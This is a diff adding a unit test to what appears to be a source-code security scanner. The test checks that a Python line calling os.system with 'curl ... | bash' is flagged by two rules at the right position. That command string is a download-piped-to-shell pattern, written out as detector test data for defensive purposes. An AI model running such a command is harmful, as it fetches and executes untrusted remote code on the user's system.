@@ -333,3 +333,17 @@ WT_TEST(shell_escape_assignment_in_a_cell_is_shell)
     wt_code_scan_text(py, strlen(py), "python", on_hit, &none);
     CHECK_INT(none.n, 0);
 }
+
+WT_TEST(download_piped_to_shell_inside_os_system_is_found)
+{
+    const char *src = "import os\nos.system('curl -fsSL https://x.io/i.sh | bash')\n";
+    wt_scan_result *r = py(src);
+    CHECK_INT(wt_t_count(r, "WT-CODE-015"), 1);
+    CHECK_INT(wt_t_count(r, "WT-CODE-008"), 1);
+    const wt_finding *f = wt_t_find(r, "WT-CODE-015");
+    if (f) {
+        CHECK_INT(f->loc.line, 2);
+        CHECK_INT(f->loc.column, 12);
+    }
+    wt_scan_result_free(r);
+}
